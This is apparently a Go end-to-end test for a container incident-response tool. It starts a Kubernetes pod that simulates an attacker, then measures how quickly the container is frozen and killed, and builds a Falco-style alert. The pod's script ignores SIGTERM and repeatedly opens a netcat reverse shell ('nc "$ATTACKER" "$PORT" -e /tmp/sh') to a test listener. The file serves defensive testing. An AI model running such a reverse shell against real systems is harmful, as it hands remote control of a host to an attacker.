package main

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"stoop/e2e/harness"
	"stoop/e2e/kube"
	"stoop/e2e/program"
)

// script is what the suspect does: as one that is no stranger to containers, it
// ignores SIGTERM, calls the attacker with a shell from a program that was put on
// the disk just now, calls again when that shell ended, and goes on counting.
const script = `trap '' TERM
while :; do
	cp /bin/busybox /tmp/sh
	nc "$ATTACKER" "$PORT" -e /tmp/sh
	usleep 20000
done &
n=0
while :; do
	n=$((n+1)); echo $n >/tmp/count
	usleep 10000
done`

// suspect is a pod with an attacker in it.
type suspect struct {
	*rig
	pod    *corev1.Pod
	id     string // its container's, whole
	pids   []int  // in its container when it was looked at
	listen *listener
	shell  *shell
	pid    int // the shell's
}

// newSuspect makes a pod and waits until it has called.
func (r *rig) newSuspect() *suspect {
	r.Helper()
	s := &suspect{rig: r, listen: listen(r)}
	grace, no := int64(30), false
	var err error
	s.pod, err = r.cluster.Client.CoreV1().Pods(namespace).Create(r.Context(), &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: kube.Name("suspect"), Namespace: namespace},
		Spec: corev1.PodSpec{
			NodeName: nodeName, TerminationGracePeriodSeconds: &grace,
			// What was killed stays so, and is not started again amid the next
			// measurement.
			RestartPolicy:                corev1.RestartPolicyNever,
			AutomountServiceAccountToken: &no, EnableServiceLinks: &no,
			Containers: []corev1.Container{{
				Name: "main", Image: image, ImagePullPolicy: corev1.PullNever, Command: []string{"/bin/sh", "-c", script},
				Env: []corev1.EnvVar{{Name: "ATTACKER", Value: attackerIP}, {Name: "PORT", Value: strconv.Itoa(s.listen.port)}},
			}},
		},
	}, metav1.CreateOptions{})
	if err != nil {
		r.Fatalf("make a pod: %v", err)
	}
	harness.Eventually(r, 90*time.Second, 50*time.Millisecond, func() (bool, string) {
		if pod := r.cluster.Get(r, namespace, s.pod.Name); pod != nil {
			s.pod = pod
		}
		return s.running(), fmt.Sprintf("the pod %s to run; it says %+v", s.pod.Name, s.pod.Status.ContainerStatuses)
	})
	s.id = kube.ContainerID(s.pod)
	s.answerCall()
	return s
}

func (s *suspect) running() bool {
	return s.pod.Status.PodIP != "" && len(s.pod.Status.ContainerStatuses) > 0 && s.pod.Status.ContainerStatuses[0].State.Running != nil
}

// answerCall waits for the next call of the suspect's, and finds the shell's
// process.
func (s *suspect) answerCall() {
	s.Helper()
	s.shell = s.listen.accept(s)
	harness.Eventually(s, 10*time.Second, 5*time.Millisecond, func() (bool, string) {
		s.pids = containerPids(s, s.id)
		s.pid = 0
		for _, pid := range s.pids {
			in, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/0", pid))
			exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
			if strings.HasPrefix(in, "socket:") && exe == "/tmp/sh (deleted)" {
				s.pid = pid
			}
		}
		return s.pid != 0, "the shell's process"
	})
	s.shell.talk()
	s.shell.waitAlive(s, "the shell", 20)
}

// remove deletes the pod at once.
func (s *suspect) remove() {
	s.Helper()
	s.shell.hangUp()
	s.cluster.Remove(s, s.pod)
}

// containerPids are the processes whose cgroup names the container.
func containerPids(t harness.T, id string) []int {
	t.Helper()
	paths, err := filepath.Glob("/proc/[0-9]*/cgroup")
	if err != nil {
		t.Fatalf("look for processes: %v", err)
	}
	var out []int
	for _, path := range paths {
		b, err := os.ReadFile(path) // of one that has ended: an error
		if err != nil || !strings.Contains(string(b), id) {
			continue
		}
		if pid, err := strconv.Atoi(filepath.Base(filepath.Dir(path))); err == nil {
			out = append(out, pid)
		}
	}
	slices.Sort(out)
	return out
}

// count is the number that the suspect has come to.
func (s *suspect) count() string {
	s.Helper()
	for range 100 { // while it is written, it is empty
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/root/tmp/count", s.pid))
		if err != nil {
			s.Fatalf("read what the suspect counts: %v", err)
		}
		if len(b) > 0 {
			return string(b)
		}
	}
	return ""
}

// counts reports whether the suspect's number changes within a fifth of a
// second, in which it counts to about 15.
func (s *suspect) counts() bool {
	s.Helper()
	before := s.count()
	time.Sleep(200 * time.Millisecond)
	return s.count() != before
}

// freezers are the files in which the kernel says whether the container is
// frozen, and what they say then: of both versions, as either can do it.
func (s *suspect) freezers() map[string]string {
	s.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", s.pid))
	if err != nil {
		s.Fatalf("find the suspect's cgroups: %v", err)
	}
	out := map[string]string{}
	for line := range strings.Lines(string(b)) {
		_, rest, _ := strings.Cut(strings.TrimSpace(line), ":")
		controllers, path, _ := strings.Cut(rest, ":")
		switch {
		case !strings.Contains(path, s.id):
		case controllers == "freezer":
			out[filepath.Join(cgroups, "freezer", path, "freezer.state")] = "FROZEN"
		case controllers == "" && unified():
			out[filepath.Join(cgroups, path, "cgroup.events")] = "frozen 1"
		case controllers == "":
			out[filepath.Join(cgroups, "unified", path, "cgroup.events")] = "frozen 1"
		}
	}
	if len(out) == 0 {
		s.Fatalf("the suspect is in no cgroup that could be frozen:\n%s", b)
	}
	return out
}

// frozen reports whether the kernel says that all of the container is.
func frozen(freezers map[string]string) bool {
	for path, says := range freezers {
		if b, err := os.ReadFile(path); err == nil && strings.Contains(string(b), says) {
			return true
		}
	}
	return false
}

// lookEvery is how often the kernel is asked what there is no waiting for: whether
// a container is frozen, whether processes are on their way out.
const lookEvery = 50 * time.Microsecond

// watchFrozen looks until the container is frozen, and tells when.
func (s *suspect) watchFrozen() <-chan time.Time {
	s.Helper()
	freezers, out := s.freezers(), make(chan time.Time, 1)
	go func() {
		for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); harness.Nap(lookEvery) {
			if frozen(freezers) {
				out <- time.Now()
				return
			}
		}
		close(out)
	}()
	return out
}

// watchDead tells when the last of the processes has ended.
func watchDead(t harness.T, pids ...int) <-chan time.Time {
	t.Helper()
	var fds []unix.PollFd
	for _, pid := range pids {
		fd, err := unix.PidfdOpen(pid, 0)
		if err == unix.ESRCH {
			continue
		}
		if err != nil {
			t.Fatalf("hold on to process %d: %v", pid, err)
		}
		fds = append(fds, unix.PollFd{Fd: int32(fd), Events: unix.POLLIN})
	}
	if len(fds) == 0 {
		t.Fatalf("none of the processes %v is there any more", pids)
	}
	out := make(chan time.Time, 1)
	go func() {
		defer close(out)
		defer func() {
			for _, fd := range fds {
				unix.Close(int(fd.Fd))
			}
		}()
		deadline := time.Now().Add(60 * time.Second)
		for i := 0; i < len(fds); {
			// One after the other: the last one's end is what counts.
			n, err := unix.Poll(fds[i:i+1], 100)
			if time.Now().After(deadline) || err != nil && err != unix.EINTR {
				return
			}
			if n > 0 {
				i++
			}
		}
		out <- time.Now()
	}()
	return out
}

// watchExiting tells when none of the processes can run another instruction of its
// own: each is on its way out of the kernel, or gone. That way may be long: with
// the last of a container's, the kernel takes its mounts apart.
func watchExiting(pids ...int) <-chan time.Time {
	out := make(chan time.Time, 1)
	go func() {
		defer close(out)
		for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); harness.Nap(lookEvery) {
			pids = slices.DeleteFunc(pids, exiting)
			if len(pids) == 0 {
				out <- time.Now()
				return
			}
		}
	}()
	return out
}

func exiting(pid int) bool {
	fields, err := stat(pid)
	if err != nil {
		return true
	}
	flags, err := strconv.ParseUint(fields[6], 10, 64)
	const pfExiting = 0x4 // PF_EXITING of include/linux/sched.h
	return err == nil && flags&pfExiting != 0
}

// stat are the fields of /proc/PID/stat behind the name, the first of which is
// the state.
func stat(pid int) ([]string, error) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return nil, err
	}
	// The name, in brackets, may hold anything: count from behind it.
	fields := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+1:]))
	if len(fields) < 20 {
		return nil, fmt.Errorf("/proc/%d/stat is cut off: %q", pid, b)
	}
	return fields, nil
}

// at waits for what a watch tells.
func at(t harness.T, what string, watch <-chan time.Time) time.Time {
	t.Helper()
	select {
	case when, ok := <-watch:
		if !ok {
			t.Fatalf("%s did not happen", what)
		}
		return when
	case <-time.After(90 * time.Second):
		t.Fatalf("%s did not happen", what)
	}
	return time.Time{}
}

// alert is what Falco would say of the suspect's shell.
func (s *suspect) alert(rule string) program.Alert {
	s.Helper()
	now := time.Now().UTC()
	return program.Alert{
		Hostname: nodeName,
		Output:   "A shell talks to somebody outside | container_id=" + kube.ShortID(s.pod),
		Fields: map[string]any{
			"container.id":               kube.ShortID(s.pod),
			"container.image.repository": imageRepository,
			"container.name":             "main",
			"evt.time":                   now.UnixNano(),
			"evt.type":                   "dup2",
			"fd.name":                    fmt.Sprintf("%s:40000->%s:%d", s.pod.Status.PodIP, attackerIP, s.listen.port),
			"k8s.ns.name":                s.pod.Namespace,
			"k8s.pod.name":               s.pod.Name,
			"proc.cmdline":               "sh",
			"proc.name":                  "sh",
			"proc.pid":                   s.pid,
			"proc.pid.ts":                forkTime(s, s.pid),
		},
		Priority: "Critical", Rule: rule, Source: "syscall",
		Tags: []string{"container", "network", "mitre_execution"},
		Time: program.Stamp(now),
	}
}

// forkTime is when a process began, in nanoseconds since 1970, as Falco says it:
// some milliseconds later than /proc does.
func forkTime(t harness.T, pid int) int64 {
	t.Helper()
	fields, err := stat(pid)
	if err != nil {
		t.Fatalf("read when process %d began: %v", pid, err)
	}
	ticks, err := strconv.ParseInt(fields[19], 10, 64)
	if err != nil {
		t.Fatalf("read when process %d began: %v", pid, err)
	}
	var real, boot unix.Timespec
	if err := unix.ClockGettime(unix.CLOCK_REALTIME, &real); err != nil {
		t.Fatalf("read the clock: %v", err)
	}
	if err := unix.ClockGettime(unix.CLOCK_BOOTTIME, &boot); err != nil {
		t.Fatalf("read the clock: %v", err)
	}
	const tick, later = 10 * time.Millisecond, 5 * time.Millisecond
	return real.Nano() - boot.Nano() + int64(time.Duration(ticks)*tick+later)
}

// busyboxSHA256 is the hash of the program that the shell runs.
func busyboxSHA256(t harness.T) string {
	t.Helper()
	b, err := os.ReadFile(busybox)
	if err != nil {
		t.Fatalf("hash the shell's program: %v", err)
	}
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}
